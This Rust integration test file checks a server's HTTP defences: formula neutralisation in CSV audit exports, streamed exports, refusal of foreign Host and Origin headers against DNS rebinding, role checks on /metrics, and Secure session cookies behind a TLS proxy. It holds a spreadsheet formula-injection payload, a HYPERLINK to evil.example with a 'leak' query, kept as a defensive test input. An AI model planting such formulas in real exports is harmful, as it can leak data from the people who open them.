//! The edges of the HTTP surface an attacker reaches without a role: what an audit export
//! carries to an auditor's spreadsheet and how much of it the server holds; `Host` and
//! `Origin` (DNS rebinding); who may read `/metrics`; the portal cookie's `Secure` behind a
//! proxy that terminates TLS.

use emisar::server::audit::NewEvent;
use emisar::server::principal::Role;
use serde_json::{Value, json};

use crate::both_backends;
use crate::harness::app::{Options, TestApp};
use crate::harness::{Backend, RunnerSpec, spawn_app};
use crate::mcp_calls::{call, fixtures_dir};

/// `/metrics` as Prometheus scrapes it: with an auditor's token.
pub async fn scrape_metrics(app: &TestApp) -> String {
    let token = app.issue_token("prometheus", Role::Auditor).await;
    let res = app
        .http()
        .get(format!("{}/metrics", app.base_url()))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    res.text().await.unwrap()
}

/// `emisar ARGS`: its exit code and standard output.
fn emisar(args: &[&str]) -> (i32, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_emisar"))
        .args(args)
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak\",\"open the runbook\")";

/// An agent's reason that a spreadsheet would run as a formula reaches the CSV export as
/// text; the JSON exports carry it unchanged.
async fn csv_export_neutralises_a_formula_in_a_reason(backend: Backend) {
    let app = spawn_app(
        backend,
        vec![RunnerSpec::new("node-1")],
        Options {
            packs_dir: Some(fixtures_dir()),
            ..Default::default()
        },
    )
    .await;
    let client = app.mcp_client().await;
    let res = call(
        &client,
        "testkit.echo",
        json!({"runners": ["node-1"], "reason": FORMULA, "word": "a1"}),
    )
    .await;
    assert_ne!(res.is_error, Some(true), "{res:?}");
    client.cancel().await.unwrap();

    let db = app.database_url.as_str();
    let (code, csv) = emisar(&["audit", "export", "--format", "csv", "--database", db]);
    assert_eq!(code, 0);
    let rows: Vec<&str> = csv.lines().filter(|l| l.contains("HYPERLINK")).collect();
    assert_eq!(rows.len(), 2, "intent and outcome carry the reason: {csv}");
    for row in rows {
        assert!(
            row.contains(
                ",\"'=HYPERLINK(\"\"https://evil.example/?leak\"\",\"\"open the runbook\"\")\","
            ),
            "the reason is quoted text that starts with a single quote: {row}"
        );
        assert!(
            !row.contains(",=HYPERLINK") && !row.contains(",\"=HYPERLINK"),
            "no cell starts a formula: {row}"
        );
    }

    let (code, jsonl) = emisar(&["audit", "export", "--database", db]);
    assert_eq!(code, 0);
    let reasons: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["tool"] == "testkit.echo")
        .map(|e| e["reason"].clone())
        .collect();
    assert_eq!(reasons, vec![json!(FORMULA), json!(FORMULA)]);
    let auditor = app.issue_token("alice", Role::Auditor).await;
    let ndjson = app
        .http()
        .get(format!(
            "{}/api/audit/export?tool=testkit.echo",
            app.base_url()
        ))
        .bearer_auth(auditor)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for line in ndjson.lines() {
        let e: Value = serde_json::from_str(line).unwrap();
        assert_eq!(e["reason"], FORMULA);
    }
}
both_backends!(csv_export_neutralises_a_formula_in_a_reason);

/// More events than three pages: `GET /api/audit/export` streams them (no length known up
/// front, so nothing is collected first), every one once, in order.
async fn the_audit_export_streams_page_by_page(backend: Backend) {
    let app = spawn_app(backend, vec![], Options::default()).await;
    let total = 2 * emisar::server::audit::MAX_PAGE as usize + 500;
    let events: Vec<NewEvent> = (0..total)
        .map(|i| NewEvent {
            actor: "agent:bulk".into(),
            kind: "tool.called".into(),
            tool: Some("traefik.ping".into()),
            args: Some(json!({"i": i, "pad": "x".repeat(512)})),
            reason: Some(format!("bulk {i}")),
            call_id: Some(uuid::Uuid::new_v4().to_string()),
            ..Default::default()
        })
        .collect();
    for chunk in events.chunks(500) {
        app.audit.append_all(chunk.to_vec()).await.unwrap();
    }
    let auditor = app.issue_token("alice", Role::Auditor).await;
    let res = app
        .http()
        .get(format!(
            "{}/api/audit/export?actor=agent:bulk",
            app.base_url()
        ))
        .bearer_auth(&auditor)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/x-ndjson");
    assert!(
        res.headers().get("content-length").is_none(),
        "a streamed export has no length up front: {:?}",
        res.headers()
    );
    assert_eq!(res.headers()["transfer-encoding"], "chunked");
    let body = res.text().await.unwrap();
    let seen: Vec<(i64, i64)> = body
        .lines()
        .map(|l| {
            let e: Value = serde_json::from_str(l).unwrap();
            (e["seq"].as_i64().unwrap(), e["args"]["i"].as_i64().unwrap())
        })
        .collect();
    assert_eq!(seen.len(), total);
    assert!(seen.windows(2).all(|w| w[0].0 < w[1].0), "in seq order");
    assert!(
        seen.iter().enumerate().all(|(n, (_, i))| n as i64 == *i),
        "every event once, in the order written"
    );
    // The filters are still those of `GET /api/audit`: a bad one is a 400 before anything.
    let bad = app
        .http()
        .get(format!("{}/api/audit/export?kind=bogus", app.base_url()))
        .bearer_auth(&auditor)
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 400);
}
both_backends!(the_audit_export_streams_page_by_page);

/// An `initialize` to `/mcp` with `headers` (name, value); its status.
async fn initialize(app: &TestApp, headers: &[(&str, &str)]) -> u16 {
    let mut req = app
        .http()
        .post(&app.mcp_url)
        .bearer_auth(&app.token)
        .header("accept", "application/json, text/event-stream")
        .json(&json!({
            "jsonrpc": "2.0", "id": 1, "method": "initialize",
            "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                       "clientInfo": {"name": "edges", "version": "1"}}
        }));
    for (name, value) in headers {
        req = req.header(*name, *value);
    }
    req.send().await.unwrap().status().as_u16()
}

/// A page on another site that rebinds its name to the server's address reaches it with its
/// own name in `Host`: refused on every route, not only `/mcp` (the portal's sign-in and the
/// join endpoint above all). A browser page of another origin cannot call `/mcp` even with
/// the right `Host`; MCP clients that send no `Origin`, the server's own origin, `public_url`'s
/// and `allowed_origins` can.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn foreign_hosts_are_refused_everywhere_and_foreign_origins_on_mcp() {
    let app = spawn_app(
        Backend::Sqlite,
        vec![],
        Options {
            public_url: Some("https://emisar.example".into()),
            allowed_origins: vec!["https://inspector.example:6274".into()],
            ..Default::default()
        },
    )
    .await;
    let port = app
        .mcp_url
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches("/mcp");
    let evil = format!("evil.example:{port}");
    let http = app.http();
    let base = app.base_url();
    let auditor = app.issue_token("alice", Role::Auditor).await;
    let send = |method: reqwest::Method, path: &str, host: &str| {
        http.request(method, format!("{base}{path}"))
            .header("host", host.to_owned())
            .bearer_auth(&auditor)
            .json(&json!({"name": "dev-approver", "password": "x"}))
            .send()
    };
    use reqwest::Method;
    for (method, path) in [
        (Method::POST, "/api/login"),
        (Method::POST, "/api/runners/join"),
        (Method::GET, "/"),
        (Method::GET, "/api/session"),
        (Method::GET, "/metrics"),
        (Method::GET, "/api/audit"),
    ] {
        let res = send(method.clone(), path, &evil).await.unwrap();
        assert_eq!(res.status(), 403, "{method} {path}");
        let body: Value = res.json().await.unwrap();
        assert!(
            body["error"].as_str().unwrap().contains("allowed_hosts"),
            "{body}"
        );
        assert_eq!(body["code"], "host_not_allowed", "{body}");
        assert!(
            !body.to_string().contains("evil"),
            "the value is not echoed"
        );
    }
    assert_eq!(initialize(&app, &[("host", &evil)]).await, 403);
    // The names the server answers to still work, and probes reach it by any name.
    assert_eq!(
        send(Method::GET, "/", &format!("localhost:{port}"))
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        send(Method::GET, "/", "emisar.example")
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        send(Method::GET, "/healthz", &evil).await.unwrap().status(),
        200
    );

    assert_eq!(initialize(&app, &[]).await, 200, "no Origin: not a browser");
    let own = format!("http://127.0.0.1:{port}");
    for origin in [
        own.as_str(),
        "https://emisar.example",
        "https://inspector.example:6274",
    ] {
        assert_eq!(
            initialize(&app, &[("origin", origin)]).await,
            200,
            "{origin}"
        );
    }
    for origin in [
        "http://evil.example",
        "http://127.0.0.1:3000",
        "https://inspector.example",
        "null",
    ] {
        assert_eq!(
            initialize(&app, &[("origin", origin)]).await,
            403,
            "{origin}"
        );
    }
}

/// `/metrics` names every agent and runner: only an auditor's or an admin's token reads it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_need_an_auditor_or_admin_token() {
    let app = spawn_app(Backend::Sqlite, vec![], Options::default()).await;
    let url = format!("{}/metrics", app.base_url());
    let http = app.http();
    assert_eq!(http.get(&url).send().await.unwrap().status(), 401);
    for (name, role, status) in [
        ("agent-x", Role::Agent, 403),
        ("bob", Role::Approver, 403),
        ("carol", Role::Auditor, 200),
        ("dave", Role::Admin, 200),
    ] {
        let token = app.issue_token(name, role).await;
        let res = http.get(&url).bearer_auth(token).send().await.unwrap();
        assert_eq!(res.status(), status, "{name}");
        if status == 200 {
            assert!(res.text().await.unwrap().contains("emisar_"));
        }
    }
}

/// Behind a proxy that terminates TLS (the documented deployment), the server speaks plain
/// HTTP and knows it is reached over HTTPS only from `public_url`: the portal's session
/// cookie must still be `Secure`, or a browser would send it over plain HTTP.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_session_cookie_is_secure_behind_a_tls_terminating_proxy() {
    for (public_url, secure) in [(Some("https://emisar.example"), true), (None, false)] {
        let app = spawn_app(
            Backend::Sqlite,
            vec![],
            Options {
                public_url: public_url.map(str::to_owned),
                ..Default::default()
            },
        )
        .await;
        assert!(
            app.mcp_url.starts_with("http://"),
            "the server speaks plain HTTP"
        );
        let password = crate::approvals::add_user(&app, "dev-approver", Role::Approver).await;
        let res = app
            .http()
            .post(format!("{}/api/login", app.base_url()))
            .json(&json!({"name": "dev-approver", "password": password}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        let cookie = res.headers()["set-cookie"].to_str().unwrap().to_owned();
        let attrs: Vec<&str> = cookie.split(';').map(str::trim).collect();
        assert_eq!(
            attrs.contains(&"Secure"),
            secure,
            "public_url {public_url:?}: {cookie}"
        );
    }
}
